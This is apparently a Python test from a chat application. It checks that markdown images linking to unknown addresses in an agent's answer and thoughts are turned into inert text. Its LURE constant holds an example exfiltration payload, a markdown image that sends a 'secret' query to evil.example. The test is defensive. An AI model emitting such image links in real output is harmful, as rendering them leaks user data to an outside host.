"""What an installed agent says, in the log of its answer."""

from functions.chat.agents import store
from functions.chat.agents.custom.parts import write_said
from headwater.agents.messages import Said
from tests.harness.agents import ask, logged_events
from tests.harness.chat_app import ChatApp

LURE = "See ![x](https://evil.example/?q=secret)."


def test_neither_text_nor_thoughts_have_images_of_unknown_addresses(chat: ChatApp) -> None:
    ask(chat)
    [(message_id,)] = chat.rows("select message_id from agents")
    with chat.database.transaction(chat.workspace_id) as tx:
        agent = store.take(tx, chat.workspace_id, message_id)
        assert agent
        write_said(tx, agent, [Said(LURE, LURE), Said("", "")])
    said: dict[str, str] = {}
    for event in logged_events(chat):
        if "delta" in event.part:
            said[event.part["id"]] = said.get(event.part["id"], "") + event.part["delta"]
    assert said == dict.fromkeys(("r1.1", "t1"), "See [x] (`https://evil.example/?q=secret`).")
    chat.client.post("/api/chat/c1/stop")
    chat.drain()
